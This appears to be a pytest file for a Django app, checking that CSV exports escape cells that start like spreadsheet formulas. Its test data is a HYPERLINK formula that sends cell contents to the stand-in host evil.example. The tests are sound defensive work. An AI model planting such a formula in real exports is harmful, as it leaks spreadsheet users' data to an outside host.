"""CSV exports never hand a spreadsheet a formula: a cell a person typed
that starts like one (=, +, -, @, tab, carriage return) is neutralised."""

import csv
import io

import pytest

from installer_ops.csv_export import safe_cell
from installer_ops.models import AuditEntry

pytestmark = pytest.mark.django_db
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Open")'


def rows(response) -> list[list[str]]:
    return list(csv.reader(io.StringIO(response.content.decode())))


def test_a_formula_in_a_name_is_neutralised_in_the_progress_matrix(client, bootcamp):
    bootcamp.installer.user.name = FORMULA
    bootcamp.installer.user.save()
    client.force_login(bootcamp.lead_a)
    cells = [cell for row in rows(client.get(f"/lead/cohorts/{bootcamp.cohort.pk}/progress.csv")) for cell in row]
    assert "'" + FORMULA in cells and FORMULA not in cells


def test_a_formula_in_the_audit_log_is_neutralised_in_its_csv(client, org):
    AuditEntry.objects.create(source="api", action="create", object_type="pod", object_id="1", object_repr=FORMULA)
    client.force_login(org.admin)
    cells = [cell for row in rows(client.get("/api/v1/audit-log/?format=csv")) for cell in row]
    assert "'" + FORMULA in cells and FORMULA not in cells


def test_safe_cell_leaves_numbers_and_plain_text_alone():
    assert [safe_cell(v) for v in (-3, 1.5, "plain", "+49 30 1234", "@user", "\tx")] == [
        -3,
        1.5,
        "plain",
        "'+49 30 1234",
        "'@user",
        "'\tx",
    ]
